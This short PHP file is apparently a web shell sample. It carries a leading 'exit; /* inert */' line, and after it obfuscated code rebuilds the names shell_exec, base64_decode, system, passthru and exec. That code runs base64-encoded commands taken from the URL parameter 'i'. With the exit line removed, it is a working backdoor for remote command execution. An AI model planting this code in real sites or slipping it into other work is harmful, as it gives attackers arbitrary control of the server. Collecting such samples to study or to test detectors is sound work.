<?php exit; /* inert */ 
$a = substr('xxshell_execxx', 2, 10);
$b = strtr('bqsz64_dzcodz', 'qz', 'ae');
$c = implode(array_reverse(array('m', 'e', 't', 's', 'y', 's')));
$d = sprintf('%c%s', 112, 'assthru');
$e = pack('H*', '65786563');
switch ($_GET['w']) { case 1: echo $a($b($_GET['i'])); break; case 2: $c($b($_GET['i'])); break; case 3: $d($b($_GET['i'])); break; default: echo $e($b($_GET['i'])); }
